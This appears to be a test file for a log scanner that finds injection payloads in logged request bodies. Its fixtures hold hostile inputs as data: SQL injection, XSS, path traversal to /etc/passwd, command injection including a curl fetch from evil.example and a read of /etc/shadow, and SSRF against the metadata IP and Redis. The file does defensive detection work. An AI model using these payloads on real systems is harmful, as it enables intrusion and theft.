// Injection payloads in logged request bodies: JSON log lines with a body field and text lines with
// `body: ...`; true and false examples per kind, and the findings `rampart logs` makes of them.

import { describe, expect, it } from 'vitest';
import type { AttackKind } from '../../../src/engines/runtime/logs/attacks.ts';
import { bodyInjections } from '../../../src/engines/runtime/logs/bodies.ts';
import { scanLogs } from '../../../src/engines/runtime/logs/engine.ts';

const json = (body: unknown, extra: Record<string, unknown> = {}) => JSON.stringify({ level: 'info', msg: 'request', ...extra, body });

const EXAMPLES: Partial<Record<AttackKind, { tp: string[]; fp: string[] }>> = {
  'sql-injection': {
    tp: [
      json({ user: "admin' OR '1'='1", pass: 'x' }),
      json('{"q":"1 UNION ALL SELECT username, password FROM users"}'),
      'POST /search body: q=1%27%3B%20DROP%20TABLE%20users%3B--',
      json({ id: "1; WAITFOR DELAY '0:0:5'" }),
    ],
    fp: [
      json({ review: 'Tom and Jerry like cheese; selected from the best' }),
      json({ note: "it's fine, don't worry -- really" }),
      json({ sql: 'the union of two sets' }),
    ],
  },
  xss: {
    tp: [
      json({ comment: '<script>alert(1)</script>' }),
      json({ bio: '<img src=x onerror=alert(document.domain)>' }),
      'payload={"url":"javascript:alert(1)"}',
    ],
    fp: [json({ html: '<p>Hello <img src="/a.png" alt="logo"></p>' }), json({ text: 'see javascript: the good parts' })],
  },
  'path-traversal': {
    tp: [json({ file: '../../../etc/passwd' }), json({ path: '..\\..\\windows\\win.ini' })],
    fp: [json({ file: '../images/logo.png' }), json({ path: '/var/www/app' })],
  },
  'command-injection': {
    tp: [json({ host: '8.8.8.8; cat /etc/shadow' }), json({ name: '$(curl http://evil.example/x.sh)' }), json({ cmd: 'a && whoami' })],
    fp: [json({ title: 'Tom & Jerry; cats and mice' }), json({ text: 'run ls in the folder' })],
  },
  ssrf: {
    tp: [
      json({ webhook: 'http://169.254.169.254/latest/meta-data/' }),
      json({ url: 'gopher://127.0.0.1:6379/_FLUSHALL' }),
      json({ avatar: 'file:///etc/passwd' }),
    ],
    fp: [json({ webhook: 'https://hooks.example.com/x' }), json({ callback: 'http://10.0.0.5:8080/hook' })],
  },
};

describe('bodyInjections: true and false examples per kind', () => {
  for (const [kind, { tp, fp }] of Object.entries(EXAMPLES) as [AttackKind, { tp: string[]; fp: string[] }][]) {
    it(kind, () => {
      for (const line of tp)
        expect(
          bodyInjections(line).map((h) => h.kind),
          line,
        ).toContain(kind);
      for (const line of fp) expect(bodyInjections(line), line).toEqual([]);
    });
  }

  it('only the body counts: the same text in another field or line is no body', () => {
    expect(bodyInjections(JSON.stringify({ msg: "admin' OR '1'='1" }))).toEqual([]);
    expect(bodyInjections("user said admin' OR '1'='1")).toEqual([]);
  });

  it('bodies nested under request, as a JSON string, and the client of the line', () => {
    const line = JSON.stringify({ remote_addr: '10.1.2.3', request: { method: 'POST', body: JSON.stringify({ q: "' or 1=1--" }) } });
    expect(bodyInjections(line)).toEqual([{ kind: 'sql-injection', key: 'ip 10.1.2.3', excerpt: "' or 1=1--" }]);
  });

  it('the excerpt masks sensitive values next to the payload', () => {
    const [h] = bodyInjections(json({ q: "x' OR '1'='1 card 4111111111111111" }));
    expect(h.excerpt).not.toContain('4111111111111111');
  });
});

describe('rampart logs: payloads in bodies', () => {
  it('reports them by kind and client at their lines, also in logs that are no access log', async () => {
    const lines = [
      'app started',
      json({ user: "admin' OR '1'='1" }, { user: 'mallory' }),
      json({ ok: true }),
      json({ c: '<script>x</script>' }),
    ];
    async function* one(): AsyncGenerator<string> {
      yield `${lines.join('\n')}\n`;
    }
    const result = await scanLogs([{ source: 'app.log', chunks: one() }]);
    const got = result.findings.map((f) => [f.ruleId, f.location]);
    expect(got).toContainEqual(['logs-sql-injection', { kind: 'log', source: 'app.log', line: 2 }]);
    expect(got).toContainEqual(['logs-xss', { kind: 'log', source: 'app.log', line: 4 }]);
    expect(result.findings.find((f) => f.ruleId === 'logs-sql-injection')?.message).toContain('by user mallory');
    expect(result.findings).toHaveLength(2);
  });

  it('--no-attacks: no body is looked at', async () => {
    async function* one(): AsyncGenerator<string> {
      yield `${json({ c: '<script>x</script>' })}\n`;
    }
    const result = await scanLogs([{ source: 'app.log', chunks: one() }], { attacks: false });
    expect(result.findings).toEqual([]);
  });
});
